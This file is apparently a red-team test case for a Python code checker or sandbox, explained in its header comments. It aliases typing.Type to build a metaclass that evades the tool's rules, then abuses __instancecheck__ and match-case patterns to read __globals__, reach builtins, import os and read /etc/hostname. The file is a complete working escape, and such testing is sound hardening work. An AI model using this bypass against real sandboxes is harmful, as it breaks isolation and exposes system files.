# family: red team, round 8 (class_base_typing_type_mro_entries)
# A base class that is a typing alias is replaced through __mro_entries__ by its origin: typing.Type[...]
# becomes `type`, so the class statement defines a metaclass. The rule against deriving from a metaclass
# looks at the base's last name (type/ABCMeta/...), and the typing.Type[...]-outside-annotations rule at the
# subscripted name; an alias (T = typing.Type) passes both. A metaclass of the tool's own then builds a
# second one with __instancecheck__ (its namespace keys are run-time strings), whose class makes a class
# pattern read any attribute of any object.
import typing

T = typing.Type


class Meta(T[int]):
    pass


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    hooked = Meta("Hooked", (Meta,), {_d("instancecheck"): lambda c, o: True})
    probe = hooked("Probe", (), {_d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return issubclass(Meta, type), type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
